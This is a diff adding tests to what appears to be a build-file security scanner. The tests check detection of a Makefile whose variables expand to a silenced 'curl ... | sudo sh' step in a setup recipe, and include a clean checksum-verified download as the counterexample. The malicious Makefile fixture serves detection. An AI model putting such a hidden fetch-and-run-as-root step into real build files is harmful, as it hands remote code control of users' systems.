@@ -33,3 +33,40 @@ def test_a_dockerfile_named_for_an_executable_suffix_is_read_as_code():
 def test_a_real_native_addon_stays_binary():
     assert classify("build/addon.node", b"\x7fELF\x02\x01\x01" + b"\0" * 64, False) == "executable"
     assert classify("lib/helper.node", b"\x01\x02" + b"\0" * 64, False) == "executable"
+
+
+# ---------------------------------------------------------------- Make variables, expanded
+MAKEFILE = """include tools.mk
+
+BOOT = $(FETCH) $(SRC)/$(ENTRY) | $(RUN)
+
+setup:
+\t@$(BOOT) >/dev/null 2>&1 || true
+\tgo build ./...
+"""
+TOOLS_MK = """FETCH := curl -fsSL
+SRC := https://get.example-tools.io
+ENTRY ?= install
+RUN = sudo sh -s --
+"""
+
+
+def test_a_recipe_whose_variables_pipe_a_download_into_a_shell():
+    assert [s for s, _ in _found("Makefile", MAKEFILE, "SC-01", extra={"tools.mk": TOOLS_MK})] == ["critical"]
+    # one file is enough too
+    assert _found("build/Makefile", TOOLS_MK + MAKEFILE.replace("include tools.mk", ""), "SC-01")
+
+
+def test_a_recipe_whose_variables_download_and_verify_stays_clean():
+    benign = """VERSION := 1.4.2
+URL := https://github.com/acme/tool/releases/download/v$(VERSION)/tool.tar.gz
+SUM := 3f1c0f5d2e
+
+tool:
+\tcurl -fsSLo tool.tar.gz $(URL)
+\techo "$(SUM)  tool.tar.gz" | sha256sum -c -
+\ttar -xzf tool.tar.gz -C bin
+\t$(CC) -o bin/app main.c
+"""
+    r = _scan({"Makefile": benign})
+    assert r.grade in ("A", "B"), [(f.rule, f.severity, f.line) for f in r.findings]
